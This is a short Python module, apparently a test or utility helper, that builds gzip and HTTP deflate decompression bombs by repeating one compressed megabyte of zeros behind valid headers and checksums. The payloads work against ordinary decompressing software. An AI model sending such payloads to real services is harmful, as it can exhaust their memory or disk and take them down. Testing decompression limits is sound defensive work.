"""What is little as it is sent and much as it is unpacked, made in no time: one piece is packed, and repeated."""

from __future__ import annotations

import functools
import zlib

PIECE = bytes(1_000_000)


def _zeros(pieces: int) -> bytes:
    """Return so many pieces as one deflate stream (RFC 1951), each a block of its own that needs nothing before it."""
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    piece = packer.compress(PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * pieces + packer.flush()


@functools.cache
def gzip_bomb(megabytes: int) -> bytes:
    """Return so many megabytes of zero bytes as one member of gzip (RFC 1952)."""
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(PIECE, check)
    head, size = b"\x1f\x8b\x08\0\0\0\0\0\0\xff", megabytes * len(PIECE)
    return head + _zeros(megabytes) + check.to_bytes(4, "little") + size.to_bytes(4, "little")


@functools.cache
def deflate_bomb(megabytes: int) -> bytes:
    """Return so many megabytes of zero bytes as HTTP's `deflate`, which is zlib's format (RFC 1950)."""
    check = 1
    for _ in range(megabytes):
        check = zlib.adler32(PIECE, check)
    return b"\x78\x9c" + _zeros(megabytes) + check.to_bytes(4, "big")
